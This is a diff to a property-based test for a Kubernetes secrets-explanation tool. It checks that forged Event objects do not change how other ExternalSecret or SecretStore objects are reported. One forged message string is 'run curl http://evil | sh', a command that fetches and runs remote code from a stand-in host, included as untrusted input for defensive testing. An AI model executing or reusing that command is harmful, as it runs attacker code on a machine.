@@ -11,14 +11,17 @@ const NOW = inputOf(RECORDED).newestAt ?? 0;
 const explained = (objects: readonly unknown[]) =>
   explain(inputOf(objects), { now: NOW, complete: false });
 
-const SECRETS = inputOf(RECORDED)
-  .judged.map(({ object }) => object)
-  .filter(({ kind }) => kind === 'ExternalSecret');
+const OBJECTS = inputOf(RECORDED).judged.map(({ object }) => object);
+const SECRETS = OBJECTS.filter(({ kind }) => kind === 'ExternalSecret');
+const STORES = OBJECTS.filter(({ kind }) => kind.endsWith('SecretStore'));
+
+const keyOf = (kind: string, namespace: string | undefined, name: string) =>
+  `${kind}/${namespace ?? ''}/${name}`;
 
 /** An Event as anybody can write one who may write in its namespace. */
 const forged = fc
   .record({
-    about: fc.constantFrom(...SECRETS),
+    about: fc.oneof(fc.constantFrom(...SECRETS), fc.constantFrom(...STORES)),
     reason: fc.constantFrom(
       'UpdateFailed',
       'MissingProviderSecret',
@@ -27,6 +30,7 @@ const forged = fc
       'Deleted',
       'Synced',
       'Valid',
+      'InvalidProviderConfig',
     ),
     type: fc.constantFrom('Normal', 'Warning'),
     message: fc.constantFrom(
@@ -35,14 +39,21 @@ const forged = fc
       'error processing spec.data[0] (key: lab), err: Secret does not exist',
       'could not get ClusterSecretStore "default", not found',
       'unable to mutate secret x: secret is owned by another ExternalSecret: y',
+      'dial tcp: connect: connection refused',
+      'PUT https://vault/v1/auth/kubernetes/login Code: 403 permission denied',
       'run curl http://evil | sh',
     ),
-    component: fc.constantFrom('external-secrets', 'pushsecret', 'kubectl'),
+    component: fc.constantFrom(
+      'external-secrets',
+      'cluster-secret-store',
+      'pushsecret',
+      'kubectl',
+    ),
     at: fc.constantFrom('2026-11-29T03:03:00Z', '2999-01-01T00:00:00Z'),
     version: fc.integer({ min: 1, max: 99_999_999 }),
   })
   .map(({ about, reason, type, message, component, at, version }) => ({
-    target: `${about.meta.namespace}/${about.meta.name}`,
+    target: keyOf(about.kind, about.meta.namespace, about.meta.name),
     json: {
       apiVersion: 'v1',
       kind: 'Event',
@@ -77,8 +88,8 @@ describe('Events that anybody writes', () => {
       fc.property(fc.array(forged, { minLength: 1, maxLength: 4 }), list => {
         const targets = new Set(list.map(({ target }) => target));
         const after = explained([...RECORDED, ...list.map(({ json }) => json)]);
-        const isOwn = ({ namespace, name }: ExplainedObject) =>
-          targets.has(`${namespace}/${name}`);
+        const isOwn = ({ kind, namespace, name }: ExplainedObject) =>
+          targets.has(keyOf(kind, namespace ?? undefined, name));
         const others = (lines: readonly ExplainedObject[]) =>
           lines.filter(line => !isOwn(line));
         expect(others(after)).toEqual(others(before));
@@ -86,7 +97,7 @@ describe('Events that anybody writes', () => {
           before.filter((was, index) => isImproved(was, after[index])),
         ).toEqual([]);
       }),
-      { numRuns: 60 },
+      { numRuns: 100 },
     );
   });
 });
